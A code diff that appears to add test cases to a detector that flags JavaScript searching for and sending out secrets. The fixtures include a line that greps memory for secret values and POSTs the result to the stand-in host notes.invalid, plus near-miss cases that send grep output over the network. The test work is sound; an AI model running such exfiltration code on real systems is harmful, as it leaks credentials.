@@ -30,8 +30,28 @@ examine(searchesForSecrets, {
       weight: 'strong',
       says: ['tokens'],
     },
+    {
+      when: 'a call sends the lines of a command that hold a secret',
+      files: {
+        'index.js': `${CP} exports.note = () => { const out = cp.execSync('cat /inert/memory | grep -aoE "isSecret.:true" | sort -u').toString(); return fetch('https://notes.invalid/', { method: 'POST', body: out }); }`,
+      },
+      weight: 'strong',
+      says: ['notes.invalid'],
+    },
   ],
   silent: [
+    {
+      when: 'a call sends the lines of a command that hold its version',
+      files: {
+        'index.js': `${CP} exports.note = () => fetch('https://notes.invalid/', { method: 'POST', body: cp.execSync('node -p process.versions | grep v8').toString() })`,
+      },
+    },
+    {
+      when: 'what a scan of the project finds goes where its user says',
+      files: {
+        'index.js': `${CP} exports.scan = where => fetch(where, { method: 'POST', body: cp.execSync('git diff | grep -iE "secret|token="').toString() })`,
+      },
+    },
     {
       when: 'grep looks for something else',
       files: { 'index.js': `${CP} cp.execSync('grep -r TODO src'); cp.execSync('find . -name "*.js"')` },
